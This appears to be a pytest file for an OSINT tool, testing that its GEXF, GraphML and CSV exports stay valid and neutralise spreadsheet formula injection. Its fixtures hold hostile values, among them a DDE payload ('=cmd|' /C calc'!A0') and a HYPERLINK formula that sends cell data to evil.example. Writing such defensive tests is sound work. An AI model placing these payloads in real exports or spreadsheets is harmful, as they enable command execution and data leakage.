"""The exports, opened with the tools analysts use: lxml with the GEXF schema, networkx, igraph,
pandas. The accounts of the case choose hostile names: control characters, U+FFFE, formulas.

The GEXF 1.2draft schema is vendored in tests/data/gexf-1.2draft/ (see its README).
"""

from __future__ import annotations

import csv
from pathlib import Path

import igraph
import networkx as nx
import pandas as pd
import pytest
from lxml import etree

from osint.config import Settings
from osint.storage.db import Store
from tests.casebuild import BuiltCase, build_case
from tests.conftest import CliRun

SCHEMA = Path(__file__).parent / "data" / "gexf-1.2draft" / "gexf.xsd"
HOSTILE = [
    "evil\x01name",
    "esc\x1b[31mred",
    "tab\x0bvt",
    "ffff\ufffe",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+plus",
    "@at",
    "-minus",
    "plain",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
WINDOW = ["--window", "60", "--min-participation", "2"]


@pytest.fixture
def hostile_case(run_cli: CliRun, tmp_path: Path) -> str:
    """Accounts with hostile ids that share the same objects within seconds: one network."""
    shares = tmp_path / "shares.csv"
    with shares.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["object_id", "account_id", "content_id", "timestamp_share"])
        for o in range(5):
            obj = "=cmd|' /C calc'!A0" if o == 0 else f"https://news.example/{o}"
            for i, account in enumerate(HOSTILE):
                writer.writerow([obj, account, f"c{o}-{i}", 1650530000 + o * 1000 + i * 5])
    run_cli("case", "new", "h")
    run_cli("import", "shares", str(shares), "--case", "h")
    run_cli("analyze", "coordination", "--case", "h", *WINDOW)
    return "h"


def _export(run_cli: CliRun, case: str, out: Path, *args: str) -> Path:
    run_cli("export", *args, "--case", case, "-o", str(out))
    return out


def test_gexf_is_valid_against_the_schema_it_declares(
    run_cli: CliRun, hostile_case: str, tmp_path: Path
) -> None:
    path = _export(
        run_cli, hostile_case, tmp_path / "n.gexf", "network", "--format", "gexf", *WINDOW
    )
    doc = etree.parse(str(path))
    declared = doc.getroot().get("{http://www.w3.org/2001/XMLSchema-instance}schemaLocation")
    assert declared == "http://www.gexf.net/1.2draft http://www.gexf.net/1.2draft/gexf.xsd"
    schema = etree.XMLSchema(etree.parse(str(SCHEMA)))
    assert schema.validate(doc), schema.error_log
    graph = nx.read_gexf(path)
    assert graph.number_of_nodes() == len(HOSTILE)
    labels = set(nx.get_node_attributes(graph, "label").values())
    assert {"evil[U+0001]name", "esc[U+001B][31mred", "ffff[U+FFFE]"} <= labels
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in labels  # XML keeps it exact


def test_graphml_is_read_by_networkx_and_igraph(
    run_cli: CliRun, hostile_case: str, tmp_path: Path
) -> None:
    path = _export(
        run_cli, hostile_case, tmp_path / "n.graphml", "network", "--format", "graphml", *WINDOW
    )
    etree.parse(str(path))  # well-formed XML, or lxml raises
    graph = nx.read_graphml(path)
    assert graph.number_of_nodes() == len(HOSTILE)
    assert graph.number_of_edges() == len(HOSTILE) * (len(HOSTILE) - 1) // 2
    read = igraph.Graph.Read_GraphML(str(path))
    assert (read.vcount(), read.ecount()) == (graph.number_of_nodes(), graph.number_of_edges())
    assert "tab[U+000B]vt" in read.vs["handle"]
    assert sorted(read.es["weight"]) == sorted(w for _, _, w in graph.edges(data="weight"))


def _no_formula_cells(frame: pd.DataFrame) -> list[str]:
    return [
        value
        for column in frame.columns
        for value in frame[column].dropna()
        if str(value).startswith(FORMULA)
    ]


@pytest.mark.parametrize(
    "args",
    [
        ("posts", "--format", "csv"),
        ("coordination", *WINDOW),
        ("network", "--format", "csv", *WINDOW),
    ],
    ids=["posts", "coordination", "network"],
)
def test_csv_exports_read_by_pandas_hold_no_formula(
    run_cli: CliRun, hostile_case: str, tmp_path: Path, args: tuple[str, ...]
) -> None:
    path = _export(run_cli, hostile_case, tmp_path / "out.csv", *args)
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(frame) > 0
    assert _no_formula_cells(frame) == []
    cells = set(frame.to_numpy().ravel().tolist())
    assert "'" + HOSTILE[4] in cells or "'=cmd|' /C calc'!A0" in cells  # neutralised, kept


def test_events_and_images_csv_hold_no_formula(
    store: Store, settings: Settings, run_cli: CliRun, tmp_path: Path
) -> None:
    built: BuiltCase = build_case(store, settings)
    for what in ("events", "images", "posts"):
        path = _export(run_cli, built.name, tmp_path / f"{what}.csv", what, "--format", "csv")
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert len(frame) > 0 and _no_formula_cells(frame) == [], what


def test_every_export_uses_one_time_format(
    store: Store, settings: Settings, run_cli: CliRun, tmp_path: Path
) -> None:
    built = build_case(store, settings)
    posts = pd.read_csv(
        _export(run_cli, built.name, tmp_path / "p.csv", "posts", "--format", "csv"), dtype=str
    )
    events = pd.read_csv(
        _export(run_cli, built.name, tmp_path / "e.csv", "events", "--format", "csv"), dtype=str
    )
    findings = _export(run_cli, built.name, tmp_path / "f.jsonl", "findings").read_text()
    times = [*posts["created_at"], *posts["capture_fetched_at"].dropna(), *events["detected_at"]]
    assert times and all(t.endswith("Z") and "+00:00" not in t for t in times)
    assert '"created_at": "20' in findings and "+00:00" not in findings
